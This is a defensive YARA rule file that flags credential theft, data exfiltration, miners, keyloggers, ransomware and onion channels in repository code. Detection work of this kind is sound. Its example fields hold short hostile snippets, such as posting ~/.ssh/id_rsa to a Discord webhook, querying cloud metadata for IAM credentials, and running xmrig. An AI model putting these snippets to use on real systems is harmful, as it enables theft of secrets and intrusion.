// SPDX-License-Identifier: Apache-2.0
// Secrets read and sent away, miners, spies, ransom.

rule secrets_to_messenger
{
    meta:
        id = "HG-YARA-020"
        title = "secrets and a chat webhook meet in one file"
        cwe = "CWE-200, CWE-522"
        severity = "critical"
        confidence = "medium"
        description = "The file holds a Discord, Telegram or Slack endpoint and reads credentials or the whole environment."
        reference = "https://attack.mitre.org/techniques/T1567/004/"
        remedy = "Do not load this repository; rotate every credential that the account which loaded it could read."
        example = "u='https://discord.com/api/webhooks/1/x'\nrequests.post(u, json={'content': open(os.path.expanduser('~/.ssh/id_rsa')).read()})\n"
        counterexample = "u='https://discord.com/api/webhooks/1/x'\nrequests.post(u, json={'content': 'training done'})\n"
    strings:
        $hook1 = "discord.com/api/webhooks/"
        $hook2 = "discordapp.com/api/webhooks/"
        $hook3 = "api.telegram.org/bot"
        $hook4 = "hooks.slack.com/services/"
        $ctx_secret1 = ".ssh/id_"
        $ctx_secret2 = ".aws/credentials"
        $ctx_secret3 = "huggingface/token"
        $ctx_secret4 = "dict(os.environ)"
        $ctx_secret5 = "os.environ.items()"
        $ctx_secret6 = "/etc/passwd"
        $ctx_secret7 = "/etc/shadow"
        $ctx_secret8 = ".git-credentials"
        $ctx_secret9 = ".kube/config"
        $ctx_secret10 = "Login Data"
        $ctx_secret11 = "str(os.environ)"
        $ctx_secret12 = ".netrc"
    condition:
        any of ($hook*) and any of ($ctx_secret*)
}

rule messenger_endpoint
{
    meta:
        id = "HG-YARA-021"
        title = "a chat webhook is addressed"
        cwe = "CWE-200"
        severity = "medium"
        confidence = "medium"
        description = "A Discord, Telegram or Slack endpoint with its secret stands in the file, next to a call that sends."
        reference = "https://attack.mitre.org/techniques/T1567/004/"
        remedy = "Look at what is sent. Model code has no reason to notify anybody."
        example = "requests.post('https://api.telegram.org/bot123456:AAExample/sendMessage', data=d)\n"
        counterexample = "DOC = 'see https://api.telegram.org/ for the protocol'\n"
    strings:
        $hook1 = /discord(app)?[.]c[o]m\/api\/webhooks\/[0-9]/
        $hook2 = /api\.telegram\.org\/bot[0-9{%'"]/
        $hook3 = /hooks\.slack\.com\/services\/[A-Z0-9{%]/
        $ctx_1 = "requests."
        $ctx_2 = "urlopen("
        $ctx_3 = "httpx."
        $ctx_4 = "http.client"
        $ctx_5 = "aiohttp"
        $ctx_6 = "curl "
    condition:
        any of ($hook*) and any of ($ctx_*)
}

rule collector_endpoint
{
    meta:
        id = "HG-YARA-022"
        title = "data of this machine and a throw-away collector meet in one file"
        cwe = "CWE-200"
        severity = "high"
        confidence = "medium"
        description = "A request collector or tunnel address stands in the file together with reads of the environment, the user or the host name."
        reference = "https://attack.mitre.org/techniques/T1567/"
        remedy = "Do not load this repository; report it to the hub."
        example = "requests.post('https://webhook.site/1b2c', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n"
        counterexample = "requests.get('https://webhook.site/1b2c')\n"
    strings:
        $to1 = "https://webhook.site/"
        $to2 = /https?:\/\/[a-z0-9-]{4,60}\.ngrok(-free)?\.(io|app|dev)/
        $to3 = /https?:\/\/[a-z0-9-]{4,60}\.(m\.)?[p]ipedre[a]m\.net/
        $to4 = /[a-z0-9-]{4,60}(\.oast\.(fun|pro|live|site|online|me)|\.oastify\.com|\.burpcollaborator\.net|\.[i]nter[a]ct\.sh)/
        $to5 = "requestbin.net/r/"
        $to6 = "requestcatcher.com/"
        $to7 = "canarytokens.com/"
        $to8 = /https?:\/\/[a-z0-9-]{4,60}\.(trycloudflare\.com|loca\.lt|serveo\.net)/
        $ctx_1 = "os.environ"
        $ctx_2 = "getpass.getuser("
        $ctx_3 = "socket.gethostname("
        $ctx_4 = "platform.node("
        $ctx_5 = "os.uname("
        $ctx_6 = "os.getlogin("
        $ctx_7 = ".ssh/id_"
        $ctx_8 = "/etc/passwd"
    condition:
        any of ($to*) and any of ($ctx_*)
}

rule ssh_key_theft
{
    meta:
        id = "HG-YARA-023"
        title = "an SSH private key is read where data is sent"
        cwe = "CWE-522, CWE-200"
        severity = "high"
        confidence = "medium"
        description = "The path of an SSH private key stands near a call that opens files, in code that also sends data."
        reference = "https://attack.mitre.org/techniques/T1552/004/"
        remedy = "Do not load this repository; replace the keys of every account that loaded it."
        example = "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('http://example.invalid/', data=k.encode())\n"
        counterexample = "# put your key into ~/.ssh/id_rsa first\nurllib.request.urlopen('http://example.invalid/')\n"
    strings:
        $key = /\.ssh(\/|', ?'|", ?"|' ?\/ ?'|" ?\/ ?")id_(rsa|dsa|ecdsa|ed25519)['"]/
        $ctx_read1 = "open("
        $ctx_read2 = "read_text("
        $ctx_read3 = "read_bytes("
        $ctx_read4 = "expanduser("
        $ctx_send1 = "requests.post("
        $ctx_send2 = "urlopen("
        $ctx_send3 = ".sendall("
        $ctx_send4 = "http.client."
        $ctx_send5 = "httpx.post("
        $ctx_send6 = "smtplib.SMTP"
        $ctx_send7 = "requests.put("
        $ctx_send8 = "requests.get("
    condition:
        any of ($ctx_send*) and
        for any i in (1..#key) : ( any of ($ctx_read*) in (@key[i] - 80 .. @key[i] + 80) )
}

rule cloud_credentials_theft
{
    meta:
        id = "HG-YARA-024"
        title = "a cloud or cluster credential file is read where data is sent"
        cwe = "CWE-522, CWE-200"
        severity = "high"
        confidence = "medium"
        description = "The path of an AWS, Google, Azure, Kubernetes, Docker or Git credential file stands near a read, in code that also sends data."
        reference = "https://attack.mitre.org/techniques/T1552/001/"
        remedy = "Do not load this repository; revoke the credentials of every account that loaded it."
        example = "d = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://example.invalid', data=d)\n"
        counterexample = "print('configure ~/.aws/credentials before use')\nrequests.post('http://example.invalid', data=d)\n"
    strings:
        $file1 = ".aws/credentials"
        $file2 = "application_default_credentials.json"
        $file3 = ".azure/accessTokens.json"
        $file4 = ".kube/config"
        $file5 = ".docker/config.json"
        $file6 = ".git-credentials"
        $file7 = ".config/gcloud/credentials"
        $ctx_send1 = "requests.post("
        $ctx_send2 = "urlopen("
        $ctx_send3 = ".sendall("
        $ctx_send4 = "http.client."
        $ctx_send5 = "httpx.post("
        $ctx_send6 = "requests.put("
        $ctx_read1 = /(open|expanduser|read_text|Path)\([^\n]{0,60}(\.aws\/credentials|default_credentials\.json|accessTokens\.json|\.kube\/config|\.docker\/config\.json|\.git-credentials|gcloud\/credentials)/
    condition:
        $ctx_read1 and any of ($file*) and any of ($ctx_send*)
}

rule hub_token_theft
{
    meta:
        id = "HG-YARA-025"
        title = "the Hugging Face token is read where data is sent"
        cwe = "CWE-522, CWE-200"
        severity = "high"
        confidence = "medium"
        description = "The stored hub token is opened as a file, in code that also sends data on its own."
        reference = "https://attack.mitre.org/techniques/T1528/"
        remedy = "Do not load this repository; revoke the token at the hub."
        example = "t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('http://example.invalid', data={'t': t})\n"
        counterexample = "print('the token lies in ~/.cache/huggingface/token')\nrequests.post('http://example.invalid')\n"
    strings:
        $tok1 = "huggingface/token"
        $tok2 = "huggingface/stored_tokens"
        $tok3 = "huggingface', 'token"
        $tok4 = "huggingface','token"
        $tok5 = "huggingface\", \"token"
        $tok6 = "huggingface\",\"token"
        $tok7 = "huggingface', \"token"
        $tok8 = "huggingface',\"token"
        $tok9 = "huggingface\", 'token"
        $tok10 = "huggingface\",'token"
        $ctx_open = /(open|expanduser|read_text|Path)\([^\n]{0,60}(huggingface\/(token|stored_tokens)|huggingface['"], ?['"]token)/
        $ctx_send1 = "requests.post("
        $ctx_send2 = "urlopen("
        $ctx_send3 = ".sendall("
        $ctx_send4 = "http.client."
        $ctx_send5 = "httpx.post("
        $ctx_send6 = "requests.get("
    condition:
        any of ($tok*) and $ctx_open and any of ($ctx_send*)
}

rule cloud_metadata
{
    meta:
        id = "HG-YARA-026"
        title = "credentials are asked of the cloud metadata service"
        cwe = "CWE-918, CWE-522"
        severity = "high"
        confidence = "high"
        description = "The link-local metadata address stands with the path that hands out the credentials of the machine's role."
        reference = "https://attack.mitre.org/techniques/T1552/005/"
        remedy = "Do not load this repository; require IMDSv2 with a hop limit of 1 and rotate the role's credentials."
        example = "r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"
        counterexample = "r = requests.get('http://169.254.169.254/latest/meta-data/instance-id')\n"
    strings:
        $ip = /(169\.254\.169\.254|metadata\.google\.internal|0xa9fea9fe|0xA9FEA9FE|169\.254\.170\.2|http:\/\/2852039166)/
        $ctx_p1 = "/meta-data/iam/security-credentials"
        $ctx_p2 = "/instance/service-accounts/"
        $ctx_p3 = "/metadata/identity/oauth2/token"
        $ctx_p4 = "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
        $ctx_p5 = "/opc/v2/identity/"
        $ctx_get1 = "requests."
        $ctx_get2 = "urlopen("
        $ctx_get3 = "http.client"
        $ctx_get4 = "httpx."
        $ctx_get5 = "aiohttp"
        $ctx_get6 = "curl "
        $ctx_get7 = "wget "
        $ctx_get8 = ".connect(("
    condition:
        any of ($ctx_get*) and
        for any i in (1..#ip) : ( any of ($ctx_p*) in (@ip[i] - 300 .. @ip[i] + 300) )
}

rule environment_dump_sent
{
    meta:
        id = "HG-YARA-027"
        title = "the whole environment is packed up for sending"
        cwe = "CWE-200, CWE-526"
        severity = "high"
        confidence = "medium"
        description = "All environment variables, which hold tokens on most machines, are serialised within a few lines of a call that sends."
        reference = "https://attack.mitre.org/techniques/T1082/"
        remedy = "Do not load this repository; rotate the secrets that the environment held."
        example = "requests.post(u, json=dict(os.environ))\n"
        counterexample = "subprocess.run(cmd, env=dict(os.environ))\nrequests.post(u, json=payload)\n"
    strings:
        $env = /(json|data|params|headers|dumps|urlencode|b64encode|str)( ?= ?|\()\(?(json\.dumps\()?(dict\(|\{\*\*|str\()?os\.environ(\)|\}|\.copy\(\)|\.items\(\))/
        $ctx_send1 = "requests.post("
        $ctx_send2 = "urlopen("
        $ctx_send3 = ".sendall("
        $ctx_send4 = "httpx.post("
        $ctx_send5 = "requests.get("
        $ctx_send6 = ".sendto("
    condition:
        for any i in (1..#env) : ( any of ($ctx_send*) in (@env[i] - 400 .. @env[i] + 400) )
}

rule dns_tunnel
{
    meta:
        id = "HG-YARA-028"
        title = "encoded data is looked up as a host name"
        cwe = "CWE-200"
        severity = "medium"
        confidence = "medium"
        description = "A name look-up is made of hex or Base32 data: DNS carries data out where nothing else may."
        reference = "https://attack.mitre.org/techniques/T1048/003/"
        remedy = "Look at what is encoded; a model resolves no names."
        example = "socket.gethostbyname(binascii.hexlify(secret).decode() + '.x.example.invalid')\n"
        counterexample = "socket.gethostbyname('example.invalid')\nprint(binascii.hexlify(b))\n"
    strings:
        $look1 = "gethostbyname("
        $look2 = "getaddrinfo("
        $look3 = "nslookup "
        $look4 = "dig "
        $ctx_a = /(gethostbyname|getaddrinfo)\([^\n]{0,60}(hexlify\(|b32encode\(|b64encode\(|\.hex\(\))/
        $ctx_b = /(nslookup|dig) [^\n]{0,40}(hexlify\(|b32encode\(|\.hex\(\))/
    condition:
        any of ($look*) and any of ($ctx_*)
}

rule browser_theft
{
    meta:
        id = "HG-YARA-029"
        title = "stored browser passwords or cookies are read"
        cwe = "CWE-522, CWE-506"
        severity = "high"
        confidence = "high"
        description = "Names of the databases in which browsers keep passwords and cookies stand with the folders they lie in."
        reference = "https://attack.mitre.org/techniques/T1555/003/"
        remedy = "Do not load this repository; change the passwords stored in the browsers of whoever loaded it."
        example = "p = os.path.join(home, '.config/google-chrome/Default/Login Data')\nkey = 'Local State'\nsqlite3.connect(p)\n"
        counterexample = "opts.add_argument('--user-data-dir=.config/google-chrome')\n"
    strings:
        $db1 = "Login Data"
        $db2 = "logins.json"
        $db3 = "cookies.sqlite"
        $db4 = "Network\\\\Cookies"
        $db5 = "Local State"
        $db6 = "key4.db"
        $db7 = "Web Data"
        $ctx_1 = "google-chrome"
        $ctx_2 = "Google\\\\Chrome"
        $ctx_3 = "Google\\Chrome"
        $ctx_4 = "Google/Chrome"
        $ctx_5 = ".mozilla/firefox"
        $ctx_6 = "BraveSoftware"
        $ctx_7 = "CryptUnprotectData"
        $ctx_8 = "Mozilla\\\\Firefox"
    condition:
        2 of ($db*) and any of ($ctx_*)
}

rule wallet_theft
{
    meta:
        id = "HG-YARA-030"
        title = "cryptocurrency wallets are searched for"
        cwe = "CWE-522, CWE-506"
        severity = "high"
        confidence = "high"
        description = "Several wallet files, folders or extension identifiers stand in one file."
        reference = "https://attack.mitre.org/techniques/T1005/"
        remedy = "Do not load this repository; move the funds of whoever loaded it."
        example = "T = ['Exodus/exodus.wallet', 'Electrum/wallets', '.bitcoin/wallet.dat']\n"
        counterexample = "path = 'wallet.dat'\n"
    strings:
        $a = "wallet.dat"
        $b = "exodus.wallet"
        $c = /Electrum(\/|\\{1,2})wallets/
        $d = "nkbihfbeogaeaoehlefnkodbefgpgknn"
        $e = "bfnaelmomeimhlpmgjnjophhpkkoljpa"
        $f = /Eth[e]reum(\/|\\{1,2})keystore/ nocase
        $g = "fhbohimaelbohpjbbldcngcnapndodjp"
        $h = /solana(\/|\\{1,2})id\.json/
    condition:
        2 of them
}

rule crypto_miner
{
    meta:
        id = "HG-YARA-031"
        title = "a cryptocurrency miner is configured"
        cwe = "CWE-400, CWE-506"
        severity = "critical"
        confidence = "high"
        description = "A mining pool address in the stratum protocol stands with the name or the options of a miner."
        reference = "https://attack.mitre.org/techniques/T1496/"
        remedy = "Do not load this repository; report it to the hub."
        example = "cmd = './xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1'\n"
        counterexample = "SCHEMES = ('stratum+tcp', 'http', 'https')\n"
    strings:
        $pool1 = "stratum+tcp://"
        $pool2 = "stratum+ssl://"
        $pool3 = "stratum2+tcp://"
        $ctx_1 = "xmrig" nocase
        $ctx_2 = "--donate-level"
        $ctx_3 = "randomx" nocase
        $ctx_4 = "cryptonight" nocase
        $ctx_5 = "minerd"
        $ctx_6 = "ethminer"
        $ctx_7 = "subprocess."
        $ctx_8 = "os.system("
        $ctx_9 = "--algo"
        $ctx_10 = "nbminer"
    condition:
        any of ($pool*) and any of ($ctx_*)
}

rule keylogger
{
    meta:
        id = "HG-YARA-032"
        title = "keystrokes are recorded"
        cwe = "CWE-506, CWE-200"
        severity = "high"
        confidence = "medium"
        description = "A keyboard listener or hook is installed where its record is written to a file or sent."
        reference = "https://attack.mitre.org/techniques/T1056/001/"
        remedy = "Do not load this repository; report it to the hub."
        example = "from pynput.keyboard import Listener\ndef on_press(key):\n    open('/tmp/.k', 'a').write(str(key))\nwith Listener(on_press=on_press) as l:\n    l.join()\n"
        counterexample = "from pynput.mouse import Listener\n"
    strings:
        $lib1 = "from pynput.keyboard import"
        $lib2 = "from pynput import keyboard"
        $lib3 = "GetAsyncKeyState"
        $lib4 = "SetWindowsHookExA"
        $lib5 = "/dev/input/event"
        $lib6 = "pyxhook.HookManager("
        $ctx_use1 = "on_press"
        $ctx_use2 = "KeyDown"
        $ctx_use3 = "EV_KEY"
        $ctx_use4 = "windll.user32"
        $ctx_out1 = ".write("
        $ctx_out2 = "requests.post("
        $ctx_out3 = ".sendall("
        $ctx_out4 = "smtplib"
        $ctx_out5 = "urlopen("
    condition:
        any of ($lib*) and any of ($ctx_use*) and any of ($ctx_out*)
}

rule screen_capture_sent
{
    meta:
        id = "HG-YARA-033"
        title = "the screen, camera or clipboard is captured and sent"
        cwe = "CWE-506, CWE-200"
        severity = "high"
        confidence = "medium"
        description = "A screenshot or the clipboard is taken within a few lines of a call that sends."
        reference = "https://attack.mitre.org/techniques/T1113/"
        remedy = "Do not load this repository; report it to the hub."
        example = "ImageGrab.grab().save('/tmp/s.png')\nrequests.post(u, files={'f': open('/tmp/s.png', 'rb')})\n"
        counterexample = "ImageGrab.grab().save('/tmp/s.png')\n"
    strings:
        $grab1 = "ImageGrab.grab("
        $grab2 = "pyautogui.screenshot("
        $grab3 = "mss.mss("
        $grab4 = "pyperclip.paste("
        $grab5 = "win32clipboard.GetClipboardData("
        $ctx_1 = "requests.post("
        $ctx_2 = "sendPhoto"
        $ctx_3 = "sendDocument"
        $ctx_4 = "smtplib.SMTP"
        $ctx_5 = ".sendall("
        $ctx_6 = "urlopen("
    condition:
        any of ($grab*) and any of ($ctx_*)
}

rule ransomware
{
    meta:
        id = "HG-YARA-034"
        title = "files are encrypted and a ransom is asked"
        cwe = "CWE-506"
        severity = "critical"
        confidence = "high"
        description = "The text of a ransom note stands with a walk over the file system or a cipher."
        reference = "https://attack.mitre.org/techniques/T1486/"
        remedy = "Do not load this repository; report it to the hub."
        example = "NOTE='All your files have been encrypted. Send 1 BTC to ...'\nfor r, d, f in os.walk('/home'):\n    Fernet(k).encrypt(b)\n"
        counterexample = "# files have been encrypted at rest by the storage service\nfor r, d, f in os.walk('.'):\n    pass\n"
    strings:
        $note1 = "your files have been encrypted" nocase
        $note2 = "your files are encrypted" nocase
        $note3 = "to decrypt your files" nocase
        $note4 = "to recover your files" nocase
        $ctx_pay1 = "bitcoin" nocase
        $ctx_pay2 = " BTC"
        $ctx_pay3 = "monero" nocase
        $ctx_pay4 = ".onion"
        $ctx_pay5 = "ransom" nocase
        $ctx_do1 = "os.walk("
        $ctx_do2 = "Fernet("
        $ctx_do3 = "AES.new("
        $ctx_do4 = ".rglob("
        $ctx_do5 = "glob.glob("
    condition:
        any of ($note*) and any of ($ctx_pay*) and any of ($ctx_do*)
}

rule onion_channel
{
    meta:
        id = "HG-YARA-035"
        title = "a hidden service is contacted"
        cwe = "CWE-506"
        severity = "high"
        confidence = "medium"
        description = "A version 3 onion address stands with a SOCKS proxy or a request."
        reference = "https://attack.mitre.org/techniques/T1090/003/"
        remedy = "Do not load this repository; report it to the hub."
        example = "P={'http':'socks5h://127.0.0.1:9050'}\nrequests.get('http://aaaaaaaabbbbbbbbccccccccddddddddeeeeeeeeffffffff2222222233333333.onion/t', proxies=P)\n"
        counterexample = "NO_PROXY = '.onion'\nP={'http':'socks5h://127.0.0.1:9050'}\n"
    strings:
        $onion = /[a-z2-7]{16,56}\.onion[:\/'"]/
        $ctx_1 = "socks5h://"
        $ctx_2 = "socks5://"
        $ctx_3 = "requests."
        $ctx_4 = "stem.process"
    condition:
        $onion and any of ($ctx_*)
}
